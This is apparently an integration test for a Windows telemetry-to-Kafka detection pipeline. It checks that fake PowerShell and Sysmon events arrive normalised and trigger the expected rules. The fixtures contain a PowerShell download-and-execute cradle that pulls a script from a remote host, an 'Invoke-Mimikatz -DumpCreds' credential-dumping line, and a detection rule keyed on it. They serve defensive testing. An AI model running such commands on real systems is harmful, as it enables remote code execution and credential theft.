"""Agent end to end: fake ETW + fake Sysmon channel -> real agent runtime -> KafkaEventPublisher
-> the real broker; then consume the topics and check the normalised events arrived.

(The stream processor leg -> expected alerts is added by the pipeline owner.)
"""
from __future__ import annotations

import time
import uuid

import orjson
import pytest

import fakes
from sigstream.connectors.agent import Agent, config_from_dict
from fakes import recordings as R

kafka = pytest.importorskip("sigstream.connectors.kafka")


def _consume(bootstrap: str, topics: list[str], want: int, timeout_s: float = 60) -> list[dict]:
    src = kafka.KafkaSource(kafka.KafkaSettings(bootstrap=bootstrap), topics=topics,
                            group_id=f"it-agent-{uuid.uuid4().hex[:8]}", from_beginning=True)
    out: list[dict] = []
    try:
        end = time.monotonic() + timeout_s
        while len(out) < want and time.monotonic() < end:
            for m in src.poll(500, 1.0):
                out.append({"topic": m.topic, "key": m.key, "env": orjson.loads(m.value)})
    finally:
        src.close()
    return out


def test_agent_fake_sources_to_real_broker(monkeypatch, tmp_path, kafka_bootstrap):
    etw, evtlog, _ = fakes.install(monkeypatch)
    etw.RECORDINGS.extend(R.ETW_ALL)
    for x in R.XML_SYSMON_ALL:
        evtlog.write(R.SYSMON_CHANNEL, x)
    prefix = f"it{uuid.uuid4().hex[:6]}"
    settings = kafka.KafkaSettings(bootstrap=kafka_bootstrap)
    topics = [kafka.event_topic(s, prefix) for s in ("powershell", "sysmon")]
    kafka.create_topics(settings, topics, partitions=2, replication_factor=1)

    cfg = config_from_dict({
        "host_id": "WKS-FIN-042", "computer_name": R.HOST, "state_dir": str(tmp_path / "state"),
        "sources": {"etw": {"providers": ["powershell", "powershell-core"]},
                    "eventlog": {"channels": [R.SYSMON_CHANNEL]}},
        "kafka": {"bootstrap": kafka_bootstrap, "topic_prefix": prefix},
        "spool": {"max_bytes": "64MiB"},
        "health": {"listen": "127.0.0.1:0"}, "logging": {"stats_interval_s": 0}})
    agent = Agent(cfg)                      # the real KafkaEventPublisher (sink_spec None)
    agent.start()
    try:
        end = time.monotonic() + 30
        while agent.health()["published"] < 10 and time.monotonic() < end:
            time.sleep(0.05)
        assert agent.health()["published"] == 10
    finally:
        agent.shutdown()
    h = agent.health()
    assert h["dropped"] == 0 and h["publisher"]["acked"] == 10, h["publisher"]
    assert etw.SESSIONS == {}

    got = _consume(kafka_bootstrap, topics, want=10)
    assert len(got) == 10
    by_topic: dict[str, list[dict]] = {}
    for g in got:
        by_topic.setdefault(g["topic"], []).append(g)
        assert g["key"] == R.HOST.encode()                # key = host: one host stays ordered
        assert g["env"]["collector_id"] == "WKS-FIN-042" and g["env"]["v"] == 1
    ps = [g["env"]["event"] for g in by_topic[kafka.event_topic("powershell", prefix)]]
    sysmon = [g["env"]["event"] for g in by_topic[kafka.event_topic("sysmon", prefix)]]
    # ETW: 4104 single + 3 fragments + 4103 (Windows PowerShell), 4104 (PowerShell 7); the
    # Sysmon ETW record is not subscribed. Sysmon channel: 1, 13, 12, 21 in record order.
    assert sorted((e["Channel"], e["EventID"]) for e in ps) == sorted(
        [("Microsoft-Windows-PowerShell/Operational", 4104)] * 4
        + [("Microsoft-Windows-PowerShell/Operational", 4103), ("PowerShellCore/Operational", 4104)])
    assert [e["EventRecordID"] for e in sysmon] == [1001, 1002, 1003, 1004]

    single = next(e for e in ps if e.get("ScriptBlockId") == "7f0b2a8e-3c1d-4b8e-9a51-2f6c0d9e4b11")
    assert single == {
        "EventID": 4104, "Channel": "Microsoft-Windows-PowerShell/Operational",
        "Provider_Name": "Microsoft-Windows-PowerShell", "Provider_Guid": "{a0c1853b-5c40-4b15-8766-3cf1c58f985a}",
        "Computer": R.HOST, "TimeCreated": "2026-11-24T09:11:45.412345Z", "Version": 1, "Level": 5,
        "Task": 2, "Opcode": 15, "Keywords": "0x0", "Execution_ProcessID": 4556, "Execution_ThreadID": 6992,
        "Correlation_ActivityID": "{4D3F6A51-0C1B-0002-9B1D-3F4D1B0CDB01}", "MessageNumber": 1,
        "MessageTotal": 1,
        "ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')",
        "ScriptBlockId": "7f0b2a8e-3c1d-4b8e-9a51-2f6c0d9e4b11", "Path": "",
        # the ETW session asks for the user SID, as the event log records it (issue 16)
        "Security_UserID": "S-1-5-21-1004336348-1177238915-682003330-1104"}
    reg = next(e for e in sysmon if e["EventID"] == 13)
    assert reg["TargetObject"].startswith("HKU\\S-1-5-21-") and reg["ProcessId"] == 7444
    assert reg["TimeCreated"] == "2026-11-24T09:12:01.555012Z"

    # the fragments reassemble into the whole block, as the stream path will do
    from sigstream.stream.reassembly import ScriptBlockAssembler
    asm = ScriptBlockAssembler()
    whole = [o for e in ps for o in asm.feed(e, 0) if o.get("sigstream_Reassembled")]
    assert len(whole) == 1 and whole[0]["ScriptBlockText"].endswith("Invoke-Mimikatz -DumpCreds")

    # bookmark: a restart would resume after the last record published
    bm = (tmp_path / "state" / "bookmarks" / "bookmark-Microsoft-Windows-Sysmon_Operational.xml").read_text()
    assert "RecordId='1004'" in bm

    # the processor leg: the same topics -> `sigstream run` -> the alerts topic
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "mimikatz_block.yml").write_text(
        "title: Mimikatz invoked in a script block\nid: 7d3e0f55-0a44-4d0e-9d7e-2f7f6c1e5a01\n"
        "status: test\nlevel: high\nlogsource: {product: windows, category: ps_script}\n"
        "detection:\n  sel: {ScriptBlockText|contains: 'Invoke-Mimikatz -DumpCreds'}\n  condition: sel\n")
    (rules / "hku_value.yml").write_text(
        "title: Value set under a user hive\nid: 0c0a3a1e-55a7-4c8e-9b3a-6d7f3c2b1a02\n"
        "status: test\nlevel: medium\nlogsource: {product: windows, category: registry_set}\n"
        "detection:\n  sel: {TargetObject|startswith: 'HKU\\S-1-5-21-'}\n  condition: sel\n")
    import subprocess
    import sys
    run = subprocess.run(
        [sys.executable, "-c", "from sigstream.cli import main; main()", "run", "-r", str(rules),
         "--bootstrap", kafka_bootstrap, "--topic-prefix", prefix, "--group", f"{prefix}-proc",
         "--until-idle", "5", "--no-cache"],
        capture_output=True, text=True, timeout=180)
    assert run.returncode == 0, run.stderr[-2000:]
    alerts = [g["env"] for g in _consume(kafka_bootstrap, [f"{prefix}.alerts"], want=2, timeout_s=30)]
    by_rule = {a["rule"]["title"]: a for a in alerts}
    assert set(by_rule) == {"Mimikatz invoked in a script block", "Value set under a user hive"}, alerts
    block = by_rule["Mimikatz invoked in a script block"]["event"]
    assert block.get("sigstream_Reassembled") and len(block["sigstream_Fragments"]) == 3
    assert by_rule["Value set under a user hive"]["host"] == reg["Computer"]
